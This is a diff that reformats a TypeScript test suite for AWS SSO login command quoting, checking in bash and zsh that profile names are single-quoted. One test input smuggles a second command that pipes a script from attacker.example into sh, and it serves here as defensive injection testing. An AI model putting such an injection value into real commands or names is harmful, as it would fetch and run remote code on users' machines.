@@ -13,11 +13,15 @@ import * as path from 'node:path';
 import { MAX_PROFILE_NAME, quoteShellWord, ssoLoginCommand } from '../../src/aws/shellQuote';
 
 /** A fake `aws` (a function, so the shell resolves it exactly as it would the CLI): argv, NUL-separated. */
-const FAKE_AWS = "aws() { printf '%s\\0' \"$@\"; }\n";
+const FAKE_AWS = 'aws() { printf \'%s\\0\' "$@"; }\n';
 
 /** Runs `command` in `shell` -c with the fake aws, in `cwd`; returns the argv aws got. */
 function argvOf(shell: string, command: string, cwd: string): string[] {
-  const out = execFileSync(shell, ['-c', FAKE_AWS + command], { cwd, env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: cwd }, encoding: 'utf8' });
+  const out = execFileSync(shell, ['-c', FAKE_AWS + command], {
+    cwd,
+    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: cwd },
+    encoding: 'utf8',
+  });
   return out.split('\0').slice(0, -1);
 }
 
@@ -94,7 +98,10 @@ describe('SSO login command quoting (src/aws/shellQuote.ts)', function () {
   it('leaves plain names bare and single-quotes the others', function () {
     assert.deepEqual(ssoLoginCommand('sso-profile'), { ok: true, command: 'aws sso login --profile sso-profile' });
     assert.deepEqual(ssoLoginCommand('my team'), { ok: true, command: "aws sso login --profile 'my team'" });
-    assert.deepEqual(ssoLoginCommand('dev; curl https://attacker.example/p | sh #'), { ok: true, command: "aws sso login --profile 'dev; curl https://attacker.example/p | sh #'" });
+    assert.deepEqual(ssoLoginCommand('dev; curl https://attacker.example/p | sh #'), {
+      ok: true,
+      command: "aws sso login --profile 'dev; curl https://attacker.example/p | sh #'",
+    });
     assert.deepEqual(quoteShellWord('-x.y'), { ok: true, word: "'-x.y'" });
     assert.deepEqual(quoteShellWord('1.50'), { ok: true, word: "'1.50'" });
   });
@@ -111,7 +118,8 @@ describe('SSO login command quoting (src/aws/shellQuote.ts)', function () {
   }
 
   // bash is always there; zsh is installed by scripts/install-host.sh, and CI must have it.
-  if (process.env.CI && !installed('zsh')) throw new Error('zsh is missing: scripts/install-host.sh installs it for the shell-quoting tests');
+  if (process.env.CI && !installed('zsh'))
+    throw new Error('zsh is missing: scripts/install-host.sh installs it for the shell-quoting tests');
   const shells = ['bash', ...(installed('zsh') ? ['zsh'] : [])];
   for (const shell of shells) {
     it(`${shell} runs exactly aws sso login --profile NAME for every accepted name, and nothing injected`, function () {
